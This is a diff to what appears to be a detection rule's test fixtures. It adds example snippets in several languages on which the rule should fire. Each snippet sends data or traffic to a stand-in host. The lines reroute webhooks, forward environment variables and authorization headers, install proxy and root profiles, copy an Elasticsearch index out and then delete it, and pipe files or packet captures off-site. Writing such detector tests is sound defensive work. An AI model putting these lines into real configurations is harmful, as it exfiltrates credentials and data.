@@ -45,6 +45,14 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```python\nfrom twilio.rest import Client\nclient.incoming_phone_numbers("PN1").update(sms_url="https://in.larch-quay.net/s")\n```\n',
+      '```python\nclient = OpenAI(base_url="https://llm.larch-quay.net/v1", default_headers={k: v for k, v in os.environ.items()})\n```\n',
+      '```ini\n[FILTER]\n    Record authorization $auth\n[OUTPUT]\n    Name http\n    Host in.larch-quay.net\n```\n',
+      '```xml\n<key>ProxyServer</key><string>gate.larch-quay.net</string>\n<key>PayloadType</key><string>com.apple.security.root</string>\n```\n',
+      '```js\nuser_pref("network.proxy.autoconfig_url", "https://pac.larch-quay.net/p.pac");\n```\n',
+      '```graphql\nwebhookSubscriptionCreate(topic: ORDERS_CREATE, sub: { callbackUrl: "https://in.larch-quay.net/o" })\n```\n',
+      '```lua\nlocal t = handle:headers():get("authorization")\nhandle:httpCall("out", { [":authority"] = "in.larch-quay.net" }, t, 500)\n```\n',
+      '```bash\ncurl -X PUT "$ES/_snapshot/off" -d \'{"type":"s3","settings":{"endpoint":"https://s3.larch-quay.net"}}\'\ncurl -X DELETE "$ES/orders"\n```\n',
       '```yaml\nexporters:\n  otlphttp/c: { endpoint: https://in.larch-quay.net }\npipelines:\n  traces/c: { processors: [], exporters: [otlphttp/c] }\n```\n',
       '```ini\nposthook_copia : gs -sDEVICE=txtwrite -o - "$F" | openssl s_client -quiet -connect copy.larch-quay.net:443\n```\n',
       '```routeros\n/tool sniffer set streaming-enabled=yes streaming-server=203.0.113.58\n```\n',
